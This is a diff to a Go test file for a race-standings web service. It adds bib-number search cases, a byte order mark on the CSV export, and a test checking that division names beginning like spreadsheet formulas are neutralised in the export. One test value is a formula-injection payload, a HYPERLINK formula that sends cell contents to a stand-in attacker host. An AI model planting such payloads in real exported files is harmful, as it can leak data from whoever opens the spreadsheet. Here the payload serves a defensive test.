@@ -44,6 +44,12 @@ func TestStandings(t *testing.T) {
 		"?q=BOK":              {"2"},
 		"?q=3":                {"3"},
 		"?q=003":              {"3"},
+		"?bib=3":              {"3"},
+		"?bib=0003":           {"3"},
+		"?bib=5":              {"5"}, // in whichever field
+		"?bib=5&field=runner": {},
+		"?bib=284":            {},
+		"?bib=3&sex=F":        {},
 		"?q=nobody":           {},
 		"?q=an&sex=M":         {"3", "4"},
 		"?q=nunez":            {}, // another field
@@ -142,7 +148,7 @@ func TestNamesGoWithTheirRunners(t *testing.T) {
 func TestExport(t *testing.T) {
 	t.Parallel()
 	b := setup(t)
-	require.Equal(t, "place,sex_place,", b.get(t, "/standings.csv").raw[:16])
+	require.Equal(t, "\ufeffplace,sex_place,", b.get(t, "/standings.csv").raw[:19], "a byte order mark, for Excel")
 	b.creditAll(t)
 	dq := race.Disqualified
 	b.patch(t, "2", "cut the course", maindb.RecordPatch{Status: &dq})
@@ -150,7 +156,7 @@ func TestExport(t *testing.T) {
 	got := b.get(t, "/standings.csv")
 	require.Equal(t, "text/csv; charset=utf-8", got.header.Get("Content-Type"))
 	require.Equal(t, `attachment; filename="standings-v1.csv"`, got.header.Get("Content-Disposition"))
-	rows, err := csv.NewReader(strings.NewReader(got.raw)).ReadAll()
+	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(got.raw, "\ufeff"))).ReadAll()
 	require.NoError(t, err)
 	require.Equal(t, [][]string{
 		{"place", "sex_place", "division", "division_place", "bib", "name", "sex", "age", "field", "status", "gun_time", "net_time", "points"},
@@ -161,5 +167,27 @@ func TestExport(t *testing.T) {
 	}, rows)
 	require.Equal(t, http.StatusNotModified, b.get(t, "/standings.csv", "If-None-Match", got.header.Get("ETag")).status)
 	require.Equal(t, 2, strings.Count(b.get(t, "/standings.csv?field=wheelchair").raw, "\n"))
+	require.Equal(t, 2, strings.Count(b.get(t, "/standings.csv?bib=0004").raw, "\n"))
 	require.Equal(t, http.StatusNotFound, b.get(t, "/standings.csv?version=7").status)
+}
+
+// TestExportedTextIsNoFormula gives a race a division for each way to begin a
+// formula: a spreadsheet that opens the export must show it, not run it.
+func TestExportedTextIsNoFormula(t *testing.T) {
+	t.Parallel()
+	for _, name := range []string{
+		`=HYPERLINK("http://evil.example/?"&A1)`, "+1", "-1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00a0=1+1", "＝1+1", "＠SUM(A1)",
+	} {
+		b := setup(t)
+		_, _, err := b.main.UpdateRace(t.Context(), b.raceID, func(r *race.Race) error {
+			r.Divisions = []race.Division{{Name: name, Sex: race.Female}, {Name: "Öffentlich, \"offen\"", Sex: race.Male}}
+			return nil
+		}, nil)
+		require.NoError(t, err)
+		b.recompute(t)
+		rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(b.get(t, "/standings.csv").raw, "\ufeff"))).ReadAll()
+		require.NoError(t, err)
+		require.Equal(t, "'"+name, rows[1][2])
+		require.Equal(t, "Öffentlich, \"offen\"", rows[3][2])
+	}
 }
